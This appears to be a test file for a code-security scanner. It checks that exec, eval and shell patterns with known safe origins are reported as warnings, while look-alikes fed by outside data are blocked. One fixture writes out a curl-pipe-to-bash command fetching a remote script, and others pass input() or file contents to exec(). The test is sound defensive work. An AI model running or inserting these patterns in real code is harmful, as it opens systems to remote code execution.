"""Calibration by data origin through the real CLI: a pager from $PAGER, the REPL's
$PYTHONSTARTUP, generated code and a setup script's version file are listed warnings with their
reason; the same shapes fed by outside data block."""

from __future__ import annotations

from gitrepo import GitRepo
from test_scan import scan_json

SAFE = {
    "tool/pager.py": (
        "import os\nimport subprocess\n\n\ndef _pipe(cmd):\n"
        "    return subprocess.Popen(cmd, shell=True, stdin=subprocess.PIPE)\n\n\n"
        "def pager():\n"
        '    cmd = (os.environ.get("PAGER", None) or "").strip()\n'
        "    if cmd:\n        return _pipe(cmd)\n"
        '    return _pipe("less")\n'
    ),
    "tool/repl.py": (
        "import os\n\n\ndef shell(ctx):\n"
        '    startup = os.environ.get("PYTHONSTARTUP")\n'
        "    if startup and os.path.isfile(startup):\n"
        "        with open(startup) as f:\n"
        '            eval(compile(f.read(), startup, "exec"), ctx)\n'
    ),
    "tool/gen.py": (
        "def make(cls_name, names):\n"
        '    lines = [f"class {cls_name}(tuple):", "    __slots__ = ()"]\n'
        "    for i, name in enumerate(names):\n"
        '        lines.append(f"    {name} = property(lambda self: self[{i}])")\n'
        "    namespace = {}\n"
        '    exec("\\n".join(lines), namespace)\n'
        "    return namespace[cls_name]\n"
    ),
    "setup.py": (
        "import os\n\nabout = {}\nhere = os.path.abspath(os.path.dirname(__file__))\n"
        'with open(os.path.join(here, "tool", "version.py")) as f:\n'
        "    exec(f.read(), about)\n"
    ),
    "tool/version.py": '__version__ = "1.0"\n',
}

OUTSIDE = {
    "tool/remote.py": (
        "import os\nimport subprocess\n\n\ndef install():\n"
        '    subprocess.run(f"curl -sSfL https://example.invalid/i.sh | bash -s '
        "{os.environ['PAGER']}\", shell=True, check=True)\n"
    ),
    "tool/genin.py": (
        "def make(cls_name):\n"
        '    lines = [f"class {cls_name}(tuple):"]\n'
        '    lines.append("    x = " + input())\n'
        '    exec("\\n".join(lines), {})\n'
    ),
    "tool/runfile.py": 'exec(open("tool/job.txt").read())\n',
}


def test_known_safe_origins_warn_and_look_alikes_block(repo: GitRepo) -> None:
    repo.commit("base", files={"README.md": "tool\n"})
    repo.checkout("-b", "feature")
    repo.commit("tool", files={**SAFE, **OUTSIDE, "tool/job.txt": "print(1)\n"})
    code, report = scan_json(repo, "--base", "main")
    assert code == 1, report["reasons"]
    by_path: dict[str, set[str]] = {}
    for finding in report["findings"]:
        by_path.setdefault(finding["path"], set()).add(finding["disposition"])
    assert set(OUTSIDE) <= {p for p, d in by_path.items() if "blocking" in d}, by_path
    for path in ("tool/pager.py", "tool/repl.py", "tool/gen.py", "setup.py"):
        assert by_path.get(path) == {"warning"}, (path, by_path.get(path))
    reasons = {f["path"]: f["reason"] for f in report["findings"] if f["path"] in SAFE}
    assert "$PAGER" in reasons["tool/pager.py"]
    assert "$PYTHONSTARTUP" in reasons["tool/repl.py"]
    assert "generated code" in reasons["tool/gen.py"]
    assert "runs tool/version.py, a Python file of this project" in reasons["setup.py"]
